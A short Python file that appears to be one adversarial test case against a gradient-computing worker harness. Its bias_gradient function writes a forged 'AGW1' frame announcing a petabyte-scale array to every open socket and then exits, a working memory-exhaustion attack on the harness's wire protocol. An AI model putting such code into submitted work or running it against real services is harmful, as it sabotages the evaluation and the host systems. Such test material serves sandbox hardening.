# Tries: announces an array of a petabyte in a small frame
# Attacks: affine/bias-gradient
# Class: own
# %%
import os
import socket
import struct
import sys
import threading
import time

def sockets():
    for fd in range(3, 256):
        try:
            if os.path.exists(f"/dev/fd/{fd}") or os.fstat(fd).st_mode & 0o170000 == 0o140000:
                yield fd
        except OSError:
            pass

def wire():
    return next(module for name, module in sys.modules.items() if name.endswith("worker.wire"))

def frame(value):
    payload = wire().encode(value)
    return b"AGW1" + struct.pack("!I", len(payload)) + payload

def bias_gradient(dY):
    payload = b"U\0\0\0\2L\0\0\0\0A" + struct.pack("!qBBB", -1, 11, 0, 2) + struct.pack("!QQ", 2**25, 2**25)
    for fd in sockets():
        os.write(fd, b"AGW1" + struct.pack("!I", len(payload)) + payload)
    os._exit(0)
